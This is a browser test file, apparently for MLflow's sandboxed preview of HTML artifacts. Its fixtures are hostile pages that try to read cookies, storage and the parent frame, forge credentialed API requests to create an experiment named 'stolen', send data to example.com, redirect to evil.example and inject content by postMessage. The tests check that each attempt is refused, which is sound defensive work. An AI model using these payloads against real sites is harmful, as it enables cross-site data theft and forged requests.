"""Previews of artifacts that are pages themselves: their scripts run, and reach nothing of this server's."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Page, Route, expect

from tests.browser.conftest import OpenPage, Shot
from tests.browser.seed import Seeded, new_experiment, new_run, put_files
from tests.e2e.rest import Rest
from tests.servers import Server

FRAME = "iframe.mlflow-html-iframe"
REPORT = b"""<!doctype html>
<html><head><style>h1 { color: rgb(200, 0, 0) }</style></head><body>
<h1>not drawn</h1><p></p>
<script>
document.querySelector("h1").textContent = `drawn: ${new Function("return 6 * 7")()}`;
addEventListener("load", () => {
  document.querySelector("p").textContent += `loaded ${document.compatMode}`;
});
</script></body></html>"""
OTHER = REPORT.replace(b"drawn:", b"another:")
FIGURE = b"""<html><body><div id="figure"></div>
<script charset="utf-8" src="https://cdn.plot.ly/plotly-3.0.0.min.js"></script>
<script>Plotly.newPlot("figure")</script></body></html>"""
PLOTLY = "window.Plotly = {newPlot: id => { document.getElementById(id).textContent = 'a figure' }}"

HOSTILE = b"""<body><ul></ul><script>
const tries = {
  origin: () => self.origin,
  parent: () => parent.document.title,
  frames: () => parent.frames[0].document.body.innerHTML + parent.localStorage,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  database: () => indexedDB.open("x"),
  top: () => { top.location = "about:blank" },
  opened: () => window.open("/").document,
  worker: () => navigator.serviceWorker.register("/static-files/x.js"),
  sameOrigin: () => fetch("/ajax-api/2.0/mlflow/experiments/get?experiment_id=0", {credentials: "include"}),
  blind: () => fetch("/ajax-api/2.0/mlflow/experiments/create",
    {method: "POST", mode: "no-cors", credentials: "include", body: '{"name": "stolen"}'}),
  elsewhere: () => fetch("https://example.com/?stolen", {mode: "no-cors"}),
  request: () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = done;
    request.onerror = () => failed(new Error("no answer"));
    request.open("GET", "/health");
    request.send();
  }),
  picture: () => new Promise((done, failed) => {
    const picture = new Image();
    picture.onload = done;
    picture.onerror = () => failed(new Error("not shown"));
    picture.src = "/static-files/favicon.ico";
  }),
  script: () => new Promise((done, failed) => {
    const script = document.createElement("script");
    script.onload = done;
    script.onerror = () => failed(new Error("not run"));
    script.src = "/ajax-api/2.0/mlflow/experiments/get?experiment_id=0";
    document.body.append(script);
  }),
};
(async () => {
  const form = document.createElement("form");
  form.action = "/ajax-api/2.0/mlflow/experiments/create";
  form.method = "post";
  document.body.append(form);
  form.submit();
  navigator.sendBeacon("/ajax-api/2.0/mlflow/experiments/create", '{"name": "stolen"}');
  const got = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { got[name] = "got " + await attempt() } catch (error) { got[name] = "refused" }
  }
  document.querySelector("ul").textContent = JSON.stringify(got);
})();
</script></body>"""

LEAVING = b"""<h1>here</h1><script>location = "https://evil.example/?stolen"</script>"""


@pytest.fixture(scope="module")
def run(rest: Rest, seeded: Seeded) -> str:
    """The id of a run whose artifacts are pages; in its own experiment, for the others' runs are counted."""
    seeded.experiments["pages"] = new_experiment(rest, "pages")
    run_id = new_run(rest, seeded.experiments["pages"], "pages")
    files = {"report.html": REPORT, "figure.html": FIGURE, "hostile.html": HOSTILE, "leaving.html": LEAVING}
    put_files(rest, run_id, files)
    return run_id


def artifact(seeded: Seeded, run_id: str, path: str) -> str:
    return f"#/experiments/{seeded.experiments['pages']}/runs/{run_id}/artifacts/{path}"


def test_scripts_of_an_html_artifact_run_in_its_preview(
    open_page: OpenPage, seeded: Seeded, run: str, shot: Shot
) -> None:
    page = open_page(artifact(seeded, run, "report.html"))

    frame = page.frame_locator(FRAME)
    expect(frame.get_by_role("heading", name="drawn: 42")).to_have_css("color", "rgb(200, 0, 0)")
    # Once, and in the mode that its first line asks for.
    expect(frame.locator("p")).to_have_text("loaded CSS1Compat")
    shot("html-artifact")


def test_the_same_path_of_another_run_shows_the_other_run_s_file(
    open_page: OpenPage, rest: Rest, seeded: Seeded, run: str
) -> None:
    other = new_run(rest, seeded.experiments["pages"], "more-pages")
    put_files(rest, other, {"report.html": OTHER})
    page = open_page(artifact(seeded, run, "report.html"))
    frame = page.frame_locator(FRAME)
    expect(frame.get_by_role("heading")).to_have_text("drawn: 42")

    page.goto(page.url.replace(run, other))

    expect(frame.get_by_role("heading")).to_have_text("another: 42")


@pytest.fixture
def plain_page(window: BrowserContext) -> Iterator[Page]:
    """A page that nobody listens to: what is refused is told in its console."""
    opened = window.new_page()
    yield opened
    opened.close()


def show(page: Page, server: Server, path: str) -> FrameLocator:
    page.goto(f"{server.url}/{path}")
    return page.frame_locator(FRAME)


def test_figures_get_their_library_from_where_it_is_published(
    plain_page: Page, server: Server, seeded: Seeded, run: str
) -> None:
    asked: list[dict[str, str]] = []

    def publish(route: Route) -> None:
        asked.append(route.request.headers)
        route.fulfill(body=PLOTLY, content_type="text/javascript")

    plain_page.route("https://cdn.plot.ly/**", publish)

    frame = show(plain_page, server, artifact(seeded, run, "figure.html"))

    expect(frame.locator("#figure")).to_have_text("a figure")
    assert len(asked) == 1 and "referer" not in asked[0] and "cookie" not in asked[0]


def test_a_sign_in_in_front_of_the_server_lets_the_frame_s_page_through(
    plain_page: Page, server: Server, seeded: Seeded, run: str
) -> None:
    # As App Service's; the strictest kind of cookie.
    plain_page.context.add_cookies(
        [{"name": "signed-in", "value": "yes", "url": server.url, "sameSite": "Strict", "httpOnly": True}]
    )

    with plain_page.expect_request("**/artifact-frame.html") as asking:
        frame = show(plain_page, server, artifact(seeded, run, "report.html"))

    assert asking.value.all_headers()["cookie"] == "signed-in=yes"
    expect(frame.get_by_role("heading")).to_have_text("drawn: 42")
    plain_page.context.clear_cookies(name="signed-in")


def test_a_hostile_artifact_reaches_nothing(
    plain_page: Page, server: Server, rest: Rest, seeded: Seeded, run: str
) -> None:
    address = f"{server.url}/{artifact(seeded, run, 'hostile.html')}"
    answered: list[str] = []
    plain_page.on(
        "response", lambda reply: reply.frame == plain_page.main_frame or answered.append(reply.url)
    )

    frame = show(plain_page, server, artifact(seeded, run, "hostile.html"))

    expect(frame.locator("ul")).to_contain_text("script")
    got = json.loads(frame.locator("ul").inner_text())
    assert got.pop("origin") == "got null"
    assert {name for name, came in got.items() if came != "refused"} == set(), got
    assert answered == [f"{server.url}/static-files/artifact-frame.html"]
    assert plain_page.url == address
    assert rest.get("experiments/get-by-name", experiment_name="stolen").status == 404


def test_an_artifact_cannot_lead_its_frame_to_another_site(
    plain_page: Page, server: Server, seeded: Seeded, run: str
) -> None:
    reached: list[str] = []
    plain_page.route("https://evil.example/**", lambda route: reached.append(route.request.url))
    told = "https://evil.example"

    with plain_page.expect_console_message(
        lambda message: told in message.text and "frame-src" in message.text
    ):
        show(plain_page, server, artifact(seeded, run, "leaving.html"))

    assert reached == []


EVIL = """<iframe></iframe><script>
const opened = open("ADDRESS"), frame = document.querySelector("iframe");
function say() {
  for (const target of [opened, frames[0]]) target.postMessage({html: "<h1>of another site</h1>"}, "*");
}
frame.onload = () => { for (let time = 0; time < 1000; time += 50) setTimeout(say, time) };
frame.src = "ADDRESS";
setTimeout(() => document.title = "said", 1000);
</script>"""


def test_other_sites_can_show_nothing_by_the_frame_s_page(plain_page: Page, server: Server) -> None:
    address = f"{server.url}/static-files/artifact-frame.html"
    site = EVIL.replace("ADDRESS", address)
    plain_page.route("http://evil.example/", lambda route: route.fulfill(body=site, content_type="text/html"))

    with plain_page.context.expect_page() as opening:
        plain_page.goto("http://evil.example/")

    expect(plain_page).to_have_title("said")
    for frame in (*plain_page.frames[1:], *opening.value.frames):
        assert "of another site" not in frame.content()
    opening.value.close()
